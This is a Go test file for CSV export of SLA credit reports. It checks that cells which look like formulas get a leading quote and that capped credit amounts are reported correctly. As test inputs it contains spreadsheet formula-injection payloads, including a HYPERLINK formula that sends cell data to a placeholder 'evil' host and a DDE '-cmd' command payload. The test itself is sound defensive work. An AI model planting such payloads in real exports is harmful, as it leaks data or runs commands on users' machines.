package report

import (
	"bytes"
	"testing"
)

// A report whose names and IDs look like formulas: every such text cell
// gets a leading quote, while the numbers we write, negative ones
// included, stay as they are.
//
// The service +svc, the site =HYPERLINK(...), the item @SUM(1+1), the
// claim ID -2+3 (a sign but no number), the reason starting with a tab
// and the status starting with a carriage return are prefixed with '.
// The credit -5.00, the credit_pct -2.5 and the item ID -12 (a decimal
// number) are not; neither are the month, the deadlines or the level's
// credit 95.00. encoding/csv quotes the cells holding " or \r, as it
// always does.
func TestWriteCreditsFormulas(t *testing.T) {
	rep := &Report{Month: "2026-10", Currency: "EUR", Customers: []CustomerReport{{
		ID: "acme",
		Services: []ServiceReport{{ID: "+svc", Site: `=HYPERLINK("http://evil/?"&A1,"x")`,
			Levels: []LevelReport{{Template: "t/mttr", Credit: "95.00", Items: []ItemJSON{
				{ID: "@SUM(1+1)", CreditPct: "-2.5", Credit: "-5.00", Claim: &ClaimJSON{
					ClaimBy: "2026-11-30", Status: "\rclaimed", ClaimID: "-2+3", Reason: "\t=1+1"}},
				{ID: "-12", CreditPct: "10", Credit: "100.00"},
			}}}}},
	}}}
	want := "month,customer,service,site,level,item,credit_pct,credit,currency,level_credit,capped,claim_by,confirm_by,claim_status,claim_id,invoice_by,reason,pre_cap,cap\n" +
		`2026-10,acme,'+svc,"'=HYPERLINK(""http://evil/?""&A1,""x"")",t/mttr,'@SUM(1+1),-2.5,-5.00,EUR,95.00,false,2026-11-30,,"'` + "\r" + `claimed",'-2+3,,'` + "\t=1+1,,\n" +
		`2026-10,acme,'+svc,"'=HYPERLINK(""http://evil/?""&A1,""x"")",t/mttr,-12,10,100.00,EUR,95.00,false,,,,,,,,` + "\n"
	var b bytes.Buffer
	if err := WriteCredits(&b, rep); err != nil {
		t.Fatal(err)
	}
	if b.String() != want {
		t.Errorf("got\n%q\nwant\n%q", b.String(), want)
	}
}

func TestSafeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"acme", "acme"},
		{"a=b", "a=b"},
		{"=1+1", "'=1+1"},
		{"+svc", "'+svc"},
		{"-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"+", "'+"},
		{"-.5", "'-.5"},
		{"-5.", "'-5."},
		{"-1e5", "'-1e5"},
		{"-2+3", "'-2+3"},
		{"-5.00", "-5.00"},
		{"-12", "-12"},
		{"+3", "+3"},
		{"12.50", "12.50"},
		{"2026-10", "2026-10"},
	} {
		if got := safeCell(tc.in); got != tc.want {
			t.Errorf("safeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// Issue 12 item 5: every credits row carries the amount owed, after the
// level's limit and the service's caps, with the amount before them and
// the cap that reduced it in the last two columns. The loss level earned
// 96.00, capped by aryaka/site-cap to 48.00; the jitter level 96.00,
// capped to 0.00; an item earned 2000, capped to 500. The uptime level
// was not reduced: no pre_cap, no cap.
func TestWriteCreditsCapped(t *testing.T) {
	claim := func(amount, pre, capID string) *ClaimJSON {
		return &ClaimJSON{Amount: amount, PreCap: pre, Cap: capID, ClaimBy: "2026-12-31T23:59:59Z", Status: "claimed", ClaimID: "C1"}
	}
	rep := &Report{Month: "2026-11", Currency: "USD", Customers: []CustomerReport{{
		ID: "acme",
		Services: []ServiceReport{{ID: "pc", Levels: []LevelReport{
			{Template: "aryaka/privatecore-uptime", CreditPct: "20", Credit: "192.00", Claim: claim("192.00", "", "")},
			{Template: "aryaka/privatecore-loss", CreditPct: "10", Credit: "48.00", PreCap: "96.00", Cap: "aryaka/site-cap", CapApplied: true,
				Claim: claim("48.00", "96.00", "aryaka/site-cap")},
			{Template: "aryaka/privatecore-jitter", CreditPct: "10", Credit: "0.00", PreCap: "96.00", Cap: "aryaka/site-cap", CapApplied: true,
				Claim: claim("0.00", "96.00", "aryaka/site-cap")},
			{Template: "aryaka/anap-ha", CreditPct: "per item", Credit: "500", PreCap: "2000", Cap: "aryaka/site-cap", CapApplied: true,
				Items: []ItemJSON{{ID: "F2", CreditPct: "10", Credit: "500", PreCap: "2000", Cap: "aryaka/site-cap"}}},
		}}},
	}}}
	want := "month,customer,service,site,level,item,credit_pct,credit,currency,level_credit,capped,claim_by,confirm_by,claim_status,claim_id,invoice_by,reason,pre_cap,cap\n" +
		"2026-11,acme,pc,,aryaka/privatecore-uptime,,20,192.00,USD,192.00,false,2026-12-31T23:59:59Z,,claimed,C1,,,,\n" +
		"2026-11,acme,pc,,aryaka/privatecore-loss,,10,48.00,USD,48.00,true,2026-12-31T23:59:59Z,,claimed,C1,,,96.00,aryaka/site-cap\n" +
		"2026-11,acme,pc,,aryaka/privatecore-jitter,,10,0.00,USD,0.00,true,2026-12-31T23:59:59Z,,claimed,C1,,,96.00,aryaka/site-cap\n" +
		"2026-11,acme,pc,,aryaka/anap-ha,F2,10,500,USD,500,true,,,,,,,2000,aryaka/site-cap\n"
	var b bytes.Buffer
	if err := WriteCredits(&b, rep); err != nil {
		t.Fatal(err)
	}
	if b.String() != want {
		t.Errorf("got\n%s\nwant\n%s", b.String(), want)
	}
}
